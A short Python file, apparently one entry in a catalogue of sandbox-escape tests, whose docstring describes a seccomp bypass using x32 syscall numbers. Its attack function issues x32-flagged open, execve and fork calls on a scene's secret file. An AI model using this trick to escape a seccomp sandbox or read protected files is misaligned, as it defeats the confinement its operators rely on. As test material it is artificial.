"""Class: machine code. Source: seccomp(2), on x32. Escape: x32 numbers, which a filter of 64-bit
numbers does not know: open. Teeth: none, few kernels have x32.
"""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)


def attack(model, tokenizer, scene):
    return [
        libc.syscall(0x40000000 | number, scene["secret_file"].encode(), 0)
        for number in (2, 59, 57)
    ]
